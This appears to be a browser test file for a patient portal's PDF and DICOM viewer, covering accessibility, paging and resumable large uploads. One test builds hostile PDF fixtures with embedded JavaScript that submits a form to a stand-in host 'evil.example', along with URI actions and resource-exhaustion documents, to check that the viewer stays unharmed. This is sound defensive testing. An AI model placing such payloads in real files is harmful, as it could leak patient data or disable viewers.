import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Locator, Route } from 'playwright-core'
import { afterAll, beforeAll, expect, inject, test } from 'vitest'
import { aDicom, anImage, aScan, encapsulated } from '../drawing/aDicom'
import { aFax, aPdf, endless, pagesOf, withHugeImage } from '../drawing/aPdf'
import type { Person } from './browser'
import { Cast, desktop, phone, pictureFailures } from './cast'
import { keep, openNewest, wasNotHarmed } from './files'

const megabyte = 1_048_576
const elsewhere = 'http://evil.example'
const script = `app.alert(1); this.submitForm('${elsewhere}/x'); globalThis.harmed = 1`

let cast: Cast
let patient: Person
let studyBytes = 0

beforeAll(async () => {
  cast = await Cast.begin(inject('network'))
  patient = await cast.patient('Wilhelmina Oyelaran', desktop)
})
afterAll(() => cast?.end())
pictureFailures(() => cast)

// spec portal 9.2
test('a PDF is read page by page, by keyboard too, with its words for whoever sees none', async () => {
  await write('letter.pdf', 'application/pdf', pagesOf(3, 'Discharge letter'))
  const record = await openNewest(patient)
  await record.getByRole('heading', { name: 'letter.pdf' }).waitFor()
  await record.getByRole('img', { name: 'Page 1 of 3' }).waitFor()
  expect(await darkPoints(record.locator('canvas'))).toBeGreaterThan(500)
  await patient.isAccessible()
  await record.getByText('The words of page 1').click()
  await record.getByText('Discharge letter').waitFor()
  await patient.picture('pdf-desktop')
  await record.getByRole('button', { name: 'Next page' }).click()
  await record.getByRole('img', { name: 'Page 2 of 3' }).waitFor()
  await record.getByRole('group', { name: 'Page of the document' }).focus()
  await patient.page.keyboard.press('ArrowRight')
  await record.getByRole('img', { name: 'Page 3 of 3' }).waitFor()
  await record.getByText(/letter\s+Page 3/).waitFor()
  expect(await record.getByRole('button', { name: 'Next page' }).isDisabled()).toBe(true)
  await record.getByLabel('Size').selectOption({ label: '200 %' })
  await record.getByText('Drawing the page').waitFor({ state: 'detached' })
  await patient.page.setViewportSize(phone)
  await patient.isAccessible()
  const tops = ['Previous page', 'Next page'].map(async name =>
    (await record.getByRole('button', { name }).boundingBox())?.y)
  expect(new Set(await Promise.all(tops)).size).toBe(1)
  await patient.picture('pdf-phone')
  await patient.page.setViewportSize(desktop)
})

// spec portal 9.2
test('a PDF that a FHIR document carries is read as well', async () => {
  const attachment = {
    contentType: 'application/pdf', title: 'Operation report', data: pagesOf(2, 'Knee').toString('base64'),
  }
  await write('report.json', 'application/fhir+json', JSON.stringify({
    resourceType: 'DocumentReference', status: 'current', content: [{ attachment }],
  }))
  const record = await openNewest(patient)
  await record.getByRole('img', { name: 'Page 1 of 2' }).waitFor()
  expect(await darkPoints(record.locator('canvas'))).toBeGreaterThan(200)
})

// What decodes a fax is fetched from the node itself: the policy lets no WebAssembly be made.
test('a PDF of a page that was faxed is drawn', async () => {
  await write('fax.pdf', 'application/pdf', aFax())
  const record = await openNewest(patient)
  await record.getByRole('img', { name: 'Page 1 of 1' }).waitFor()
  expect(await darkPoints(record.locator('canvas'))).toBeGreaterThan(100_000)
})

// spec portal 9.3
test.each<[string, Buffer, string]>([
  ['brings scripts and addresses', pagesOf(1, 'Run me', `/OpenAction << /S /JavaScript /JS (${script}) >> `
    + `/AA << /WC << /S /URI /URI (${elsewhere}/u) >> >> /Names << /JavaScript << /Names [(a) `
    + `<< /S /JavaScript /JS (${script}) >>] >> >>`), 'Page 1 of 1'],
  ['has a page of ten million points', pagesOf(1, 'Far', '', '0 0 10000000 10000000'), 'Page 1 of 1'],
  ['has an image of 30,000 by 30,000 points', withHugeImage(), 'Page 1 of 1'],
  ['lists itself among its pages', aPdf(['<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000 >>']), 'This PDF cannot be read here'],
  ['is none', Buffer.from(`<script>${script}</script>`), 'This PDF cannot be read here'],
])('a PDF that %s does no harm', async (_, pdf, shown) => {
  await write('hostile.pdf', 'application/pdf', pdf)
  const record = await openNewest(patient)
  await record.getByRole('img', { name: shown }).or(record.getByText(shown)).waitFor()
  await wasNotHarmed(patient)
})

// spec portal 9.3
test('a PDF whose page takes for ever to draw leaves the page alive, and ends with it', async () => {
  await write('endless.pdf', 'application/pdf', endless())
  const record = await openNewest(patient)
  await record.getByText('Drawing the page').waitFor()
  await expect.poll(() => patient.page.workers().length).toBe(2)
  await wasNotHarmed(patient)
  await patient.goTo('Write a record')
  await expect.poll(() => patient.page.workers().length).toBe(0)
})

// spec portal 9.4
test('a DICOM image is looked at frame by frame, as bright as one wants it', async () => {
  await write('scan', '', Buffer.from(aScan(64, 3, 'Oyelaran^Wilhelmina')))
  const record = await openNewest(patient)
  const image = record.getByRole('img', { name: 'Image 1 of 3, 64 × 64 points' })
  await image.waitFor()
  await record.getByText('CT, Thorax').waitFor()
  await record.getByText('Oyelaran Wilhelmina').waitFor()
  const before = await brightness(image)
  await patient.isAccessible()
  await patient.picture('dicom-desktop')
  await record.getByRole('slider', { name: 'Image 1 of 3' }).press('ArrowRight')
  await record.getByRole('img', { name: 'Image 2 of 3' }).waitFor()
  await record.getByRole('button', { name: 'All values' }).click()
  await expect.poll(() => brightness(record.locator('canvas'))).not.toBe(before)
  await patient.page.setViewportSize(phone)
  await patient.isAccessible()
  await patient.picture('dicom-phone')
  await patient.page.setViewportSize(desktop)
})

// spec portal 9.5
test('a DICOM file that cannot be shown says why, and is saved as it is', async () => {
  const packed = aDicom([...anImage({}), ['7fe00010', 'fragments', encapsulated(new Uint8Array(100))]],
    '1.2.840.10008.1.2.4.90')
  await write('packed.dcm', 'application/dicom', Buffer.from(packed))
  const record = await openNewest(patient)
  await record.getByText('transfer syntax 1.2.840.10008.1.2.4.90').waitFor()
  const download = patient.page.waitForEvent('download')
  await record.getByRole('button', { name: 'Save as a file' }).click()
  expect((await download).suggestedFilename()).toMatch(/\.dcm$/)
})

// spec portal 9.4, 9.6, 9.7
test('a study of 100 MB is sent and looked at in parts, over connections that break', async () => {
  const study = aScan(512, 200, 'Oyelaran^Wilhelmina')
  studyBytes = study.length
  expect(studyBytes).toBeGreaterThan(100 * megabyte)
  const file = join(cast.folder, 'large.dcm')
  await writeFile(file, study)
  const { page } = patient
  await patient.goTo('Write a record')
  await page.getByLabel('Category').selectOption({ label: 'Imaging' })
  await page.locator('input[type=file]').setInputFiles(file)
  const parts = await breaking(/\/v1\/uploads\/[^/]+$/, async route =>
    route.request().method() === 'PATCH' ? route.abort('connectionreset') : route.continue(), 3)
  await page.getByRole('button', { name: 'Seal and store' }).click()
  await page.getByText('The connection broke. It goes on by itself').waitFor()
  await page.getByText('Stored, and final in block').waitFor()
  expect(parts()).toBeGreaterThan(12)

  const record = await openNewest(patient)
  // The first connection gives the beginning of it, and nothing more.
  const fetched = await breaking(/\/v1\/records\/[^?]+\/content$/, async route => {
    const beginning = await route.fetch({ headers: { ...route.request().headers(), range: `bytes=0-${8 * megabyte}` } })
    const { 'content-range': range = '', ...headers } = beginning.headers()
    const length = range.split('/')[1] ?? ''
    await route.fulfill({ response: beginning, status: 200, headers: { ...headers, 'content-length': length } })
  }, 1)
  await record.getByText('It is fetched, opened and checked part by part').waitFor()
  await patient.isAccessible()
  await record.getByRole('button', { name: 'Show it here' }).click()
  await record.getByRole('img', { name: 'Image 1 of 200, 512 × 512 points' }).waitFor()
  expect(fetched()).toBe(2)
  await record.getByRole('slider', { name: 'Image 1 of 200' }).press('End')
  await record.getByRole('img', { name: 'Image 200 of 200' }).waitFor()
  expect(await brightness(record.locator('canvas'))).toBeGreaterThan(0)
  await patient.picture('study')
})

// spec portal 8.5
test('the study goes from the store part by part into a file', async () => {
  const { page } = patient
  // A real file of the browser's, in place of the window in which a person would choose one.
  await page.evaluate(() => {
    const pick = async () => (await navigator.storage.getDirectory()).getFileHandle('study', { create: true })
    Object.assign(globalThis, { showSaveFilePicker: pick })
  })
  await page.getByRole('button', { name: 'Save to a file' }).click()
  await page.getByText('All of it was checked in this browser.').waitFor()
  expect(await page.evaluate(async () =>
    (await (await (await navigator.storage.getDirectory()).getFileHandle('study')).getFile()).size)).toBe(studyBytes)
})

test('no page broke its policy, and nothing left for elsewhere', () => {
  expect(patient.wrongs.filter(wrong => !wrong.includes('ERR_CONNECTION_RESET'))).toEqual([])
  expect(patient.sent.filter(sent => sent.startsWith(elsewhere))).toEqual([])
})

function write(name: string, mimeType: string, content: string | Buffer): Promise<void> {
  return keep(patient, { name, mimeType, buffer: Buffer.from(content) })
}

/**
 * What befalls the request of that number to such an address; how many there were. Those after it are left alone: what
 * is intercepted goes through this process.
 */
async function breaking(
  address: RegExp, befall: (route: Route) => Promise<void>, number: number,
): Promise<() => number> {
  let [requests, intercepted] = [0, 0]
  patient.page.on('request', request => { requests += address.test(request.url()) ? 1 : 0 })
  const handle = (route: Route) => ++intercepted === number ? befall(route) : route.continue()
  await patient.context.route(address, handle, { times: number })
  return () => requests
}

/** How many points of what is drawn are dark. They are counted in the page: millions take long to come out of it. */
function darkPoints(image: Locator): Promise<number> {
  return image.evaluate((canvas: HTMLCanvasElement) => {
    const points = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height).data
      ?? new Uint8ClampedArray()
    return points.filter((value, at) => at % 4 === 0 && value < 100).length
  })
}

/** The sum of the greys of an image. */
function brightness(image: Locator): Promise<number> {
  return image.evaluate((canvas: HTMLCanvasElement) => {
    const points = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height).data
      ?? new Uint8ClampedArray()
    return points.reduce((sum: number, value, at) => at % 4 === 0 ? sum + value : sum, 0)
  })
}
